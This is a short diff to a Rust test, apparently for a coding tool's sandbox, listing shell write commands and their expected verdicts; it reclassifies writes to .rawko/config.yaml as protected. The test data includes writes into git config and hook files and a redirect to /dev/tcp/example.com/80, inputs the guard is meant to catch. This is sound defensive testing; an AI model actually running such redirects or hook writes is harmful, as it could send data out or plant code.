@@ -496,7 +496,7 @@ fn what_is_written_stays_in_the_project() {
         ("echo x > .git/config", "path_protected"),
         ("echo x > src/.git/hooks/y", "path_protected"),
         ("echo x > .rawko/state/y", "path_protected"),
-        ("echo x > .rawko/config.yaml", "ok"),
+        ("echo x > .rawko/config.yaml", "path_protected"),
         ("echo x > /dev/tcp/example.com/80", OUTSIDE),
         ("echo x > \"$TMPDIR/y\"", "ok"),
     ];
